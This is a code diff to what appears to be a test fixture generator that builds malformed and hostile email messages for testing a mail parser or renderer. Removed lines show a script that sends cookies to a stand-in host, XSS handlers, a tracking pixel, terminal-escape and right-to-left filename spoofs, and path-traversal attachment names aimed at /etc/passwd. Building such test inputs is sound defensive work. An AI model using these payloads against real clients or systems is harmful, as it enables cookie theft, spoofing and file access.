@@ -4,6 +4,7 @@ import { base64Lines, bytesIn, quotedPrintable, type TransferEncoding } from './
 import type { Letter } from './generate-letter.ts'
 import { mailDate } from './generate-letter.ts'
 import { documentOf, documentPart, multipart, type Part, part, payload, textPart } from './generate-parts.ts'
+import { fromTemplate } from './generate-template.ts'
 import { encodingFor } from './generate-texts.ts'
 import { type Language, WORDINGS } from './generate-words.ts'
 
@@ -128,19 +129,13 @@ export const CONTENT_ODDITIES = {
   'no-final-newline': (letter) => letter.message(letter.text()).trimEnd(),
   'very-long-line': (letter) =>
     letter.message(part('text/plain', `${'abcdefghi '.repeat(LONG_LINE_CHARS / 10)}\r\n`)),
-  'nul-in-body': (letter) => letter.message(part('text/plain', 'before\0after\r\n\0\0\0\r\n')),
+  'nul-in-body': fromTemplate('nul-in-body'),
 
-  'html-script': hostileHtml(
-    '<script>fetch("https://evil.example/?c="+document.cookie)</script><p>Hello</p>',
-  ),
-  'html-onerror': hostileHtml(
-    '<img src=x onerror="alert(1)"><svg onload=alert(2)><a href="javascript:alert(3)">x</a>',
-  ),
-  'html-tracking': hostileHtml(
-    '<p>News</p><img src="https://track.example/o.gif?id=77" width="1" height="1">',
-  ),
+  'html-script': fromTemplate('html-script'),
+  'html-onerror': fromTemplate('html-onerror'),
+  'html-tracking': fromTemplate('html-tracking'),
   'html-unclosed': hostileHtml(`${'<div><b><table><td>'.repeat(400)}still here`),
-  'html-terminal': hostileHtml('<p>\x1b[2J\x1b]0;owned\x07 \u202egnp.exe</p>'),
+  'html-terminal': fromTemplate('html-terminal'),
 
   'attachment-path-name': named('filename="../../../../etc/passwd"'),
   'attachment-windows-path': named('filename="C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts"'),
